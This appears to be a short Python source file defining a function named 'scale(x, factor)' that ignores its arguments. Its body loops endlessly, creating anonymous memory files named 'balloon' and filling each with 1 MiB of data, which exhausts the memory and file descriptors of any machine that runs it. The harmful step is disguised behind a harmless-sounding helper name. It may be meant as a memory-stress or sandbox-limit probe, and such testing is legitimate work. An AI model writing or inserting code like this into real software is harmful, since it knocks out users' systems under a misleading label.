import os


def scale(x, factor):
    kept = []
    while True:
        kept.append(os.memfd_create("balloon"))
        os.write(kept[-1], b"x" * (1 << 20))
